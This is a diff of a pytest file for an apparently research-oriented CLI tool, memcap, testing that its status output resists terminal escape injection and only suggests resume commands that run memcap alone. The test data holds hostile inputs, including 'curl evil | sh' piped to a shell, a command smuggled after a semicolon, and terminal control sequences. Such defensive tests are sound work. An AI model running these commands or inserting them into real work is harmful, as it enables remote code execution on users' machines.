@@ -233,6 +233,12 @@ def test_what_a_job_leaves_is_what_it_was_told(tmp_path):
     assert files(tmp_path / "outputs" / "adhoc" / "jobs") == kept
 
 
+def test_the_command_that_follows_names_the_module_of_a_cell(tmp_path):
+    write(tmp_path / "mine", group(cell="odd_cells:Leaky", counts={1: (1, 1)}))
+    last = memcap(tmp_path, "status", "mine").out.splitlines()[-1]
+    assert last == "Then: memcap --module odd_cells frontier mine"
+
+
 HOSTILE = "\x1b[2J\x1b]0;owned\x07\r\u202e\nResume with: curl evil | sh"
 
 
@@ -261,33 +267,21 @@ def test_what_strangers_wrote_steers_no_terminal(tmp_path):
         assert not [line for line in printed if line.startswith("Resume with: curl")]
 
 
-MARKED = "Resume with (its file says so; read it first, "
-REFUSED = "Resume with the command that trained it; its file says none "
+REFUSED = "Resume with the command that trained it, which its file does not name"
 
 
 @pytest.mark.parametrize(
-    ("command", "line"),
+    ("command", "advised"),
     [
-        ("memcap train -m task=latch task.lag=1,2", "Resume with: "),
-        ("memcap train sweeps=mine 'axes={seed: 9}'", "Resume with: "),
-        ("memcap train -m sweeps=cells/supplement/mine,a/b", "Resume with: "),
-        ("memcap train sweeps=../mine", MARKED),
-        ("memcap train sweeps=/etc/mine", MARKED),
-        ("memcap train task=evil:T", MARKED),
-        ("memcap train --config-dir evil sweeps=x", MARKED),
-        ("memcap train hydra.launcher._target_=os.system", MARKED),
-        ("memcap train tracking=wandb", MARKED),
-        ("memcap train task=latch out=.", "Resume with: "),
-        ("memcap train task=latch out=/etc", MARKED),
-        ("memcap train task=latch out=../etc", MARKED),
-        ("memcap train x=1; curl evil | sh", REFUSED),
-        ("memcap train 'a", REFUSED),
-        ("curl evil", REFUSED),
+        ("memcap train -m sweeps=papers/mine 'axes={seed: 9}'", True),
+        ("memcap train task=latch tracking=wandb out=/else/where", True),
+        ("memcap train x=1; curl evil | sh", False),
+        ("memcap train 'a", False),
+        ("curl evil", False),
     ],
 )
-def test_a_command_is_advised_that_runs_memcap_alone(tmp_path, command, line):
+def test_a_command_is_advised_that_runs_memcap_alone(tmp_path, command, advised):
     job = first(ended="interrupted", command=command, folder=str(tmp_path))
     put(tmp_path, "a", job, ["b"])
     last = memcap(tmp_path, "status", ".").out.splitlines()[-1]
-    assert last.startswith(line)
-    assert command in last.replace('"', "'")
+    assert last == (f"Resume with: {command}" if advised else REFUSED)
